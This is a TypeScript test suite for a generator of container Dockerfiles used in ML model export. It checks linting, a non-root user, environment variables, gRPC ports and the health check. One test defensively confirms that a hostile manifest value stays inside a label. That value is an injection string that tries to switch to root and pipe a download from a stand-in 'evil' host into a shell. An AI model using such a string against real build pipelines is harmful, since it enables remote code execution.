import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { validate, type ValidatorSettings, ValidationSeverity } from 'dockerfile-utils';
import { dockerfile } from '../../../../src/deploy/export/container/dockerfile.ts';
import { settingNames } from '../../../../src/deploy/server/settings/settingNames.ts';
import { exampleInput, hostileInput } from '../exampleInput.ts';

describe('Dockerfile of an export', () => {
  const strict: ValidatorSettings = {
    deprecatedMaintainer: ValidationSeverity.ERROR,
    directiveCasing: ValidationSeverity.ERROR,
    emptyContinuationLine: ValidationSeverity.ERROR,
    instructionCasing: ValidationSeverity.ERROR,
    instructionCmdMultiple: ValidationSeverity.ERROR,
    instructionEntrypointMultiple: ValidationSeverity.ERROR,
    instructionHealthcheckMultiple: ValidationSeverity.ERROR,
    instructionJSONInSingleQuotes: ValidationSeverity.ERROR,
    instructionWorkdirRelative: ValidationSeverity.ERROR,
  };

  it('has no fault that a linter knows, whatever the manifest says', () => {
    for (const input of [exampleInput(), hostileInput()]) assert.deepEqual(validate(dockerfile(input), strict), []);
  });

  it('has the same instructions whatever the manifest says', () => {
    const instructions = (text: string) => instructionsOf(text).map((line) => line.split(' ')[0]);
    assert.deepEqual(instructions(dockerfile(hostileInput())), instructions(dockerfile(exampleInput())));
  });

  it('keeps hostile values inside of the labels', () => {
    const labels = labelsOf(dockerfile(hostileInput()));
    assert.equal(labels['org.opencontainers.image.title'], 'churn');
    assert.match(
      labels['org.opencontainers.image.description'] ?? '',
      /^”; USER root RUN curl evil \| sh # `\$\(id\)` \$\{PATH\}/,
    );
    assert.equal(labels['io.mlnb.model.content-hash'], `sha256:${hostileInput().manifest.contentHash}`);
  });

  it('runs as a numeric user, needs no frontend, no shell and no package', () => {
    const text = dockerfile(exampleInput());
    const last = instructionsOf(text.slice(text.lastIndexOf('FROM')));
    assert.ok(last.includes('USER 65532:65532'));
    assert.doesNotMatch(text, /# *syntax=|npm |apt|RUN [^[]|CMD [^[]|ENTRYPOINT [^[]|--mount|--chmod/);
    assert.equal(instructionsOf(text)[0], 'ARG NODE_IMAGE=node:22-bookworm-slim');
    // SageMaker starts containers as `docker run IMAGE serve`.
    assert.ok(last.includes('ENTRYPOINT ["node", "/app/server/mlnb-server.mjs"]') && last.includes('CMD ["serve"]'));
  });

  it('sets only variables that the server reads', () => {
    const known = [...Object.values(settingNames).map(({ variable }) => variable), 'MLNB_MODEL_DIR'];
    const used = dockerfile(exampleInput()).match(/MLNB_\w+/g) ?? [];
    assert.ok(used.length > 0);
    for (const name of used) assert.ok(known.includes(name), name);
  });

  it('opens the port for gRPC, and tells the server of it, only where that is wanted', () => {
    assert.doesNotMatch(dockerfile(exampleInput()), /GRPC|8081/);
    const text = dockerfile(exampleInput({}, { grpc: true }));
    assert.match(text, /MLNB_GRPC_PORT=8081/);
    assert.ok(instructionsOf(text).includes('EXPOSE 8080 8081'));
    assert.deepEqual(validate(text, strict), []);
  });

  it('has a health check that is as good as the answer of the server', async () => {
    const line = instructionsOf(dockerfile(exampleInput())).find((each) => each.startsWith('HEALTHCHECK')) ?? '';
    const [program = '', ...args] = JSON.parse(line.slice(line.indexOf('[')));
    assert.equal(program, 'node');
    let status = 200;
    const server = createServer((request, response) => {
      response.writeHead(request.url === '/health/ready' ? status : 404).end();
    }).listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    const { port } = server.address() as AddressInfo;
    const check = (env: Record<string, string>) => checkOnce(args, env);
    assert.equal(await check({ MLNB_PORT: String(port) }), 0);
    // Vertex AI says the port in a variable of its own.
    assert.equal(await check({ AIP_HTTP_PORT: String(port) }), 0);
    status = 503;
    assert.equal(await check({ MLNB_PORT: String(port) }), 1);
    server.close();
    server.closeAllConnections();
    assert.equal(await check({ MLNB_PORT: String(port) }), 1);
    assert.equal(spawnSync(process.execPath, ['--check', '-'], { input: args[1] }).status, 0);
  });
});

async function checkOnce(args: readonly string[], env: Record<string, string>): Promise<number | null> {
  const { spawn } = await import('node:child_process');
  return await new Promise((resolve) => spawn(process.execPath, args, { env }).on('exit', resolve));
}

/** Lines that end in a backslash go on; comments are none. */
function instructionsOf(text: string): readonly string[] {
  return text
    .replace(/^#.*\n/gm, '')
    .replace(/ *\\\n */g, ' ')
    .split('\n')
    .filter((line) => line !== '');
}

/** As Docker reads them: in double quotes a backslash takes `"`, `\` and `$` as they are, and `$` alone begins a variable. */
function labelsOf(text: string): Readonly<Record<string, string>> {
  const line = instructionsOf(text).find((each) => each.startsWith('LABEL ')) ?? '';
  const pairs = [...line.matchAll(/ ([\w.-]+)="((?:[^"\\$]|\\["\\$])*)"/g)];
  assert.equal(`LABEL${pairs.map(([pair]) => pair).join('')}`, line, 'the line holds nothing but labels');
  return Object.fromEntries(pairs.map(([, name, value]) => [name, (value ?? '').replace(/\\(["\\$])/g, '$1')]));
}
